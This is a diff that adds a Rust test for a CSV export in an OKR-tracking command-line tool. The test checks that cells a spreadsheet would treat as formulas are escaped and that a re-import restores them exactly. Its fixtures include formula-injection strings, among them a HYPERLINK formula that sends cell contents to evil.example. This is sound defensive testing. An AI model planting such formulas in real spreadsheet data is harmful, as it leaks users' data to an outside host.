@@ -94,6 +94,90 @@ fn a_csv_round_trip_gives_the_same_okrs() {
 }
 
 #[test]
+fn a_csv_cell_a_spreadsheet_would_run_is_text_and_comes_back_exactly() {
+    // Titles, a unit, an owner and a note a spreadsheet would take for formulas.
+    let texts = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")",
+        "+SUM(1+1)",
+        "-2+3",
+        "@cmd",
+        "'=already quoted",
+        "'' two",
+        "'plain apostrophe",
+        "-3",
+    ];
+    let mut v: Value = serde_json::from_str(FIXTURE).unwrap();
+    for (i, t) in texts.iter().enumerate().take(3) {
+        v["objectives"][i]["title"] = json!(t);
+    }
+    v["objectives"][0]["owner"] = json!(texts[3]);
+    v["objectives"][0]["key_results"][0]["title"] = json!(texts[4]);
+    v["objectives"][0]["key_results"][1]["title"] = json!(texts[5]);
+    v["objectives"][0]["key_results"][2]["title"] = json!(texts[6]);
+    v["objectives"][0]["key_results"][0]["measure"]["unit"] = json!(texts[7]);
+    v["objectives"][0]["key_results"][0]["measure"]["start"] = json!(-3.0);
+    v["checkins"][0]["entries"][0]["note"] = json!("=1+1");
+    let w = Sandbox::new();
+    w.write_json(&v);
+    let out = w.okr(&["export", "--quarter", "all", "--format", "csv"]);
+    out.ok();
+    let mut rd = csv::Reader::from_reader(out.stdout.as_bytes());
+    let cells: Vec<String> = rd
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect();
+    for cell in &cells {
+        let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
+            || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+        assert!(!risky, "a spreadsheet would run {cell:?}");
+    }
+    for quoted in [
+        "'=HYPERLINK(",
+        "'+SUM(1+1)",
+        "'-2+3",
+        "'@cmd",
+        "''=already",
+        "''' two",
+        "'=1+1",
+    ] {
+        assert!(
+            cells.iter().any(|c| c.starts_with(quoted)),
+            "{quoted}: {cells:?}"
+        );
+    }
+    // Numbers stay numbers; a text that is one is left as it is.
+    assert!(cells.iter().any(|c| c == "-3"), "{cells:?}");
+    assert!(cells.iter().any(|c| c == "'plain apostrophe"), "{cells:?}");
+    // okr's own CSV comes back exactly.
+    let exported = input(&w, "export.csv", &out.stdout);
+    let empty = Sandbox::new();
+    empty
+        .okr(&["import", "--format", "csv", &display(&exported)])
+        .ok();
+    let back = empty.json();
+    let titles: Vec<&str> = objectives(&back)
+        .iter()
+        .flat_map(|o| {
+            std::iter::once(o["title"].as_str().unwrap()).chain(
+                o["key_results"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|k| k["title"].as_str().unwrap()),
+            )
+        })
+        .collect();
+    for t in [texts[0], texts[1], texts[2], texts[4], texts[5], texts[6]] {
+        assert!(titles.contains(&t), "{t:?} not in {titles:?}");
+    }
+    let first = &objectives(&back)[0];
+    assert_eq!(first["owner"], json!(texts[3]));
+    assert_eq!(first["key_results"][0]["measure"]["unit"], json!(texts[7]));
+    assert_eq!(first["key_results"][0]["measure"]["start"], json!(-3.0));
+    assert_eq!(back["checkins"][0]["entries"][0]["note"], json!("=1+1"));
+}
+
+#[test]
 fn an_import_adds_with_new_ids_and_keeps_a_backup_of_the_file_first() {
     let w = Sandbox::new();
     let file = w.write(FIXTURE);
